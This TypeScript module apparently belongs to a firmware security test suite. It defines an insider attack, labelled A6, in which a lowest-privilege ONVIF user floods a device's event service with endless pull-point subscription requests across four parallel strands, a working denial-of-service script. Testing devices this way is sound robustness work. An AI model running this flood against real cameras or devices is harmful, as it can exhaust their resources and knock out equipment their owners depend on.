import { soap } from '../../firmware/soap-client.ts';
import { type Attack, strands } from '../attack.ts';

const create = '<CreatePullPointSubscription xmlns="http://www.onvif.org/ver10/events/wsdl"/>';

export const insiders: readonly Attack[] = [
  {
    name: 'pull-points',
    about: 'A6: a user of the lowest level subscribes without end',
    run: ({ host, http, user, password }, _address, signal) =>
      strands(
        4,
        signal,
        async () => void (await soap(`http://${host}:${http}/onvif/event_service`, create, [user, password])),
      ),
  },
];
